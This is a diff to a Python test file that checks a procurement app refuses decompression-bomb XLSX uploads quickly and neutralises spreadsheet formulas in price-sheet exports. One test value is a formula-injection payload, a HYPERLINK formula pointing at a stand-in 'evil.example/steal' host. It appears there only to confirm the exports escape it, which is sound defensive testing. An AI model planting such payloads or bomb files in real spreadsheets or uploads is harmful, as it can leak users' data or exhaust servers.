@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import time
 from datetime import datetime, timezone
 from decimal import Decimal
 
@@ -17,6 +18,7 @@ from app.core import clock
 from app.extensions import db
 from app.solicitations.models import Solicitation
 from app.solicitations.pricesheet_files import HEADERS, MAX_LINES, MAX_ROWS
+from tests import xlsx_bombs
 from tests.accounts.helpers import Page
 from tests.solicitations.test_drafting import client_for
 
@@ -275,3 +277,66 @@ def test_only_the_agencys_officers_import(app, agency, other_agency, vendor, cat
     with app.app_context():
         assert db.session.scalar(select(func.count()).select_from(AuditEvent).where(
             AuditEvent.action == "solicitation.price_sheet_imported")) == 0
+
+
+# ----------------------------------------------------------------------------- costly files
+COSTLY_FILES = {
+    "declared_millions": (xlsx_bombs.declared_millions,
+                          f"The XLSX file has too many rows for a price sheet (at most {MAX_ROWS - 1:,} lines)."),
+    "millions_of_rows": (xlsx_bombs.millions_of_rows, "The XLSX file unpacks to 22.9 MB, more than a price sheet "
+                                                      "can need (at most 5 MB)"),
+    "one_wide_row": (xlsx_bombs.one_wide_row, "The XLSX file has more cells than a price sheet can have "
+                                              f"(at most {MAX_ROWS * 10:,})."),
+}
+
+
+@pytest.mark.parametrize("case", list(COSTLY_FILES))
+def test_a_costly_xlsx_is_refused_at_once(app, agency, categories, make_solicitation, case):
+    clock.freeze(TODAY)
+    draft = make_solicitation()
+    officer = client_for(app, agency.officer)
+    build, message = COSTLY_FILES[case]
+    content = build()
+    started = time.perf_counter()
+    response = send(officer, draft.id, file=(content, "prices.xlsx"), mode="replace")
+    elapsed = time.perf_counter() - started
+    assert response.status_code == 422
+    assert_error_beside(Page.of(response), "price_file", message)
+    assert elapsed < 2, f"{case}: {elapsed:.1f} s"  # a bound, not a benchmark
+    assert lines_of(app, draft.id) == DEFAULT_LINES
+
+
+# ----------------------------------------------------------------------------- formulas
+EVIL = '=HYPERLINK("http://evil.example/steal","Click for details")'
+EVIL_UNIT = "@SUM(A1)"
+
+
+def test_every_price_sheet_export_neutralises_formulas_and_reads_them_back(app, agency, categories,
+                                                                           make_solicitation):
+    clock.freeze(TODAY)
+    items = [{"description": EVIL, "unit": EVIL_UNIT, "estimated_quantity": Decimal(3)},
+             {"description": "-5 degree freezer", "unit": "each", "estimated_quantity": Decimal(1)}]
+    published = make_solicitation("published", items=items)
+    draft = make_solicitation(items=items)
+    officer = client_for(app, agency.officer)
+    exports = {"public": f"/solicitations/{published.number}/bid/price-sheet",
+               "staff": f"/agency/solicitations/{draft.id}/price-sheet"}
+    expected = [("'" + EVIL, "'" + EVIL_UNIT), ("'-5 degree freezer", "each")]
+    for who, url in exports.items():
+        response = officer.get(f"{url}.csv")
+        assert response.status_code == 200, who
+        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
+        assert [tuple(r[1:3]) for r in rows[1:]] == expected, who
+
+        response = officer.get(f"{url}.xlsx")
+        assert response.status_code == 200, who
+        ws = load_workbook(io.BytesIO(response.data))["Price sheet"]
+        assert [(ws.cell(r, 2).value, ws.cell(r, 3).value) for r in (2, 3)] == expected, who
+        assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"], who
+
+        # Uploaded again, the template gives the lines as they were typed.
+        target = make_solicitation()
+        for fmt, content in (("csv", officer.get(f"{url}.csv").data), ("xlsx", officer.get(f"{url}.xlsx").data)):
+            response = send(officer, target.id, file=(content, f"template.{fmt}"), mode="replace")
+            assert response.status_code == 302, Page.of(response).alert_text()
+            assert [line[1:3] for line in lines_of(app, target.id)] == [(EVIL, EVIL_UNIT), ("-5 degree freezer", "each")]
